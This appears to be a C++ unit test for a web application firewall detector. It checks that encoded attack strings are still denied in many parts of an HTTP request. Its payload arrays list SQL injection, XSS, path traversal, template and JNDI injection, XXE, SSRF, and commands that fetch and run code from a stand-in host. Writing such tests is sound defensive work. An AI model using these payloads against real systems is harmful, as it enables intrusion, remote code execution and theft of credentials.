// The same attack, encoded once and again, in every place: it is denied wherever it is denied as it stands.
#include <algorithm>
#include <functional>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "detect/core/bytes.h"
#include "detect/engine.h"
#include "detect/offline.h"
#include "tests/detect/full_engine.h"

namespace wafd::detect {
namespace {

constexpr const char* kAttacks[] = {
    "' or 1=1-- ",
    "1 union select user,password from users",
    "7 and sleep(5)",
    "'; drop table orders-- ",
    "7 or 4=4",
    "'; waitfor delay '0:0:5'-- ",
    "' and extractvalue(1,concat(0x7e,version()))-- ",
    "1; select pg_sleep(5)",
    "' or '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.domain)>",
    "<iframe src=javascript:alert(1)>",
    "\"><script>alert(1)</script>",
    "7; cat /etc/passwd",
    "$(curl http://203.0.113.9/)",
    "7 && uname -a",
    "a.png;wget http://203.0.113.9/x -O /tmp/x",
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "php://filter/convert.base64-encode/resource=index",
    "expect://id",
    "file:///etc/passwd",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://203.0.113.9/a}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<%= system('id') %>",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    "*)(uid=*))(|(uid=*",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    "' or 'a' like 'a' union select 1,2-- ",
    "<body onpageshow=alert(1)>",
    "1' and ascii(substring((select database()),1,1))>64-- ",
    "`id`;id;cat /etc/shadow",
    "<a href=\"javascript:alert(1)\">a</a>",
};

using Coding = std::function<std::string(std::string_view)>;

std::string percent(std::string_view text, bool all, bool plus) {
  std::string out;
  for (const char c : text) {
    if (plus && c == ' ') {
      out += '+';
    } else if (!all && (is_alnum(c) || c == '.' || c == '-' || c == '_')) {
      out += c;
    } else {
      out += fmt::format("%{:02x}", byte(c));
    }
  }
  return out;
}

std::string base64(std::string_view text, bool url) {
  const std::string_view digits = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
                                      : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t at = 0; at < text.size(); at += 3) {
    unsigned bits = 0;
    for (std::size_t i = at; i < at + 3; ++i) bits = bits << 8 | (i < text.size() ? byte(text[i]) : 0u);
    for (std::size_t i = 0; i < 4; ++i) {
      if (at + i <= text.size()) {
        out += digits[bits >> (18 - 6 * i) & 63];
      } else if (!url) {
        out += '=';
      }
    }
  }
  return out;
}

struct Place {
  const char* name;
  std::string before;
  std::string after;
  Coding own;  // of the place itself
  bool of_urls = true;
};

std::string plain(std::string_view text) { return std::string(text); }
std::string quoted(std::string_view text) {
  std::string out;
  for (const char c : text) out += c == '"' || c == '\\' ? std::string("\\") + c : std::string(1, c);
  return out;
}
std::string markup(std::string_view text) {
  std::string out;
  for (const char c : text) out += c == '<' ? "&lt;" : c == '&' ? "&amp;" : std::string(1, c);
  return out;
}

bool denies(const std::string& bytes, Scratch& scratch, Verdict& verdict) {
  full_engine().inspect(split_request(bytes), scratch, verdict);
  EXPECT_FALSE(verdict.limit_reached) << bytes;
  return std::any_of(verdict.findings.begin(), verdict.findings.end(),
                     [](const Finding& finding) { return wafd::denies(finding, Sensitivity::kBalanced); });
}

TEST(Codings, HoweverOftenAndWherever) {
  const Coding once = [](std::string_view text) { return percent(text, false, false); };
  const std::string end = " HTTP/1.1\r\nHost: a.example\r\n";
  const std::string post = "POST /a" + end + "Content-Type: ";
  const Place places[] = {
      {"query", "GET /a?p=", end + "\r\n", once},
      {"name", "GET /a?", "=1" + end + "\r\n", once},
      {"path", "GET /a/", end + "\r\n", once},
      {"cookie", "GET /a" + end + "Cookie: p=", "\r\n\r\n", once},
      {"referer", "GET /a" + end + "Referer: https://b.example/c?p=", "\r\n\r\n", once},
      {"form", post + "application/x-www-form-urlencoded\r\n\r\np=", "", once},
      {"header", "GET /a" + end + "X-P: ", "\r\n\r\n", plain, false},
      {"json", post + "application/json\r\n\r\n{\"p\":\"", "\"}", quoted, false},
      {"xml", post + "text/xml\r\n\r\n<a><p>", "</p></a>", markup, false},
      {"part",
       post +
           "multipart/form-data; boundary=B\r\n\r\n--B\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n",
       "\r\n--B--\r\n", plain, false},
  };
  struct Row {
    const char* name;
    Coding coding;
    bool of_urls = false;
  };
  const Row rows[] = {
      {"percent", once},
      {"every byte", [](std::string_view text) { return percent(text, true, false); }},
      {"form", [](std::string_view text) { return percent(text, false, true); }},
      {"%uHHHH",
       [](std::string_view text) {
         std::string out;
         for (const char c : text) out += fmt::format("%u{:04x}", byte(c));
         return out;
       }},
      {"base64", [](std::string_view text) { return base64(text, false); }},
      {"base64url", [](std::string_view text) { return base64(text, true); }},
      {"%S%E%L",
       [](std::string_view text) {
         std::string out;
         for (const char c : text) out += is_alpha(c) ? std::string("%") + c : std::string(1, c);
         return out;
       },
       true},
  };
  const auto scratch = full_engine().make_scratch();
  Verdict verdict;
  std::size_t asked = 0;
  for (const char* attack : kAttacks) {
    for (const Place& place : places) {
      if (!denies(place.before + place.own(attack) + place.after, *scratch, verdict)) continue;
      for (const Row& row : rows) {
        if (row.of_urls && !place.of_urls) continue;
        std::string value = attack;
        for (int times = 1; times <= 3; ++times) {
          value = row.coding(value);
          EXPECT_TRUE(denies(place.before + place.own(value) + place.after, *scratch, verdict))
              << attack << " in " << place.name << ", " << times << " times " << row.name;
          ++asked;
        }
      }
    }
  }
  EXPECT_GT(asked, 6500u);
}

// What is denied as a parameter is denied in every place where an application would read it, in every coding
// that it would undo.
constexpr const char* kAnywhere[] = {
    ";cat /etc/passwd",
    "x\n/usr/bin/id",
    "& type C:\\Windows\\win.ini",
    ";iex(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    "() { :;}; /bin/cat /etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "';alert(1)//",
    "javascript:alert(document.cookie)",
    "<?php system('id');?>",
    "O:8:\"stdClass\":1:{s:1:\"a\";O:4:\"Evil\":0:{}}",
    "php://filter/convert.base64-encode/resource=index.php",
    "__import__('os').system('id')",
    "require('child_process').exec('id')",
    "<%= system('id') %>",
    "${jndi:ldap://203.0.113.9/a}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "<!--#exec cmd=\"id\"-->",
    "<esi:include src=\"http://a.example/\"/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "*)(uid=*))(|(uid=*",
    "' || this.password.match(/.*/)//",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "' union select 1,password from users-- -",
    "\\write18{id}",
};

std::string json_escapes(std::string_view text) {
  std::string out;
  for (const char c : text) out += fmt::format("\\u{:04x}", byte(c));
  return out;
}
std::string entities(std::string_view text) {
  std::string out;
  for (const char c : text) out += is_alnum(c) ? std::string(1, c) : fmt::format("&#{};", byte(c));
  return out;
}
std::string strict_markup(std::string_view text) {
  std::string out;
  for (const char c : text) {
    out += c == '<'   ? "&lt;"
           : c == '>' ? "&gt;"
           : c == '&' ? "&amp;"
           : c == '"' ? "&quot;"
                      : std::string(1, c);
  }
  return out;
}
std::string json_quoted(std::string_view text) {
  std::string out;
  for (const char c : quoted(text)) out += c == '\n' ? "\\n" : std::string(1, c);
  return out;
}
// Field 1 of a message of Protocol Buffers, in a frame of gRPC.
std::string remote_call(std::string_view text) {
  std::string message = "\x0a";
  std::size_t size = text.size();
  for (; size >= 0x80; size >>= 7) message += static_cast<char>(size | 0x80);
  message += static_cast<char>(size);
  message += text;
  std::string frame(5, '\0');
  for (std::size_t i = 0; i < 4; ++i) frame[4 - i] = static_cast<char>(message.size() >> (8 * i));
  return frame + message;
}

TEST(Codings, InEveryPlace) {
  const Coding once = [](std::string_view text) { return percent(text, false, false); };
  const std::string end = " HTTP/1.1\r\nHost: a.example\r\n";
  const std::string post = "POST /a" + end + "Content-Type: ";
  const std::string part =
      post +
      "multipart/form-data; boundary=B\r\n\r\n--B\r\nContent-Disposition: form-data; name=\"p\"\r\n\r\n";
  const Place places[] = {
      {"query", "GET /a?p=", end + "\r\n", once},
      {"name", "GET /a?", "=1" + end + "\r\n", once},
      {"path", "GET /a/", "/b" + end + "\r\n", once},
      {"cookie", "GET /a" + end + "Cookie: s=1; p=", "\r\n\r\n", once},
      {"header", "GET /a" + end + "X-P: ", "\r\n\r\n", once},
      {"form", post + "application/x-www-form-urlencoded\r\n\r\na=1&p=", "&b=2", once},
      {"part", part, "\r\n--B--\r\n", plain},
      {"json", post + "application/json\r\n\r\n{\"a\":1,\"p\":\"", "\"}", json_quoted},
      {"member", post + "application/json\r\n\r\n{\"", "\":1}", json_quoted},
      {"variable",
       post + "application/json\r\n\r\n{\"query\":\"query($p:String){a(b:$p){c}}\",\"variables\":{\"p\":\"",
       "\"}}", json_quoted},
      {"xml", post + "text/xml\r\n\r\n<a><b>1</b><p>", "</p></a>", strict_markup},
      {"yaml", post + "application/yaml\r\n\r\na: 1\np: \"", "\"\n", json_quoted},
      {"call", post + "application/grpc\r\n\r\n", "", remote_call},
      {"text call", post + "application/grpc-web-text\r\n\r\n", "",
       [](std::string_view text) { return base64(remote_call(text), false); }},
  };
  struct Row {
    const char* name;
    Coding coding;
  };
  const Row rows[] = {
      {"plain", plain},
      {"percent", once},
      {"every byte", [](std::string_view text) { return percent(text, true, false); }},
      {"percent twice", [&](std::string_view text) { return once(once(text)); }},
      {"base64", [](std::string_view text) { return base64(text, false); }},
      {"base64url", [](std::string_view text) { return base64(text, true); }},
      {"base64 twice", [](std::string_view text) { return base64(base64(text, false), false); }},
      {"percent, base64", [&](std::string_view text) { return base64(once(text), false); }},
      {"base64, percent", [&](std::string_view text) { return once(base64(text, false)); }},
      {"\\u", json_escapes},
      {"references", entities},
  };
  const auto scratch = full_engine().make_scratch();
  Verdict verdict;
  for (const char* attack : kAnywhere) {
    for (const Place& place : places) {
      for (const Row& row : rows) {
        EXPECT_TRUE(denies(place.before + place.own(row.coding(attack)) + place.after, *scratch, verdict))
            << attack << " in " << place.name << ", " << row.name;
      }
    }
  }
}

}  // namespace
}  // namespace wafd::detect
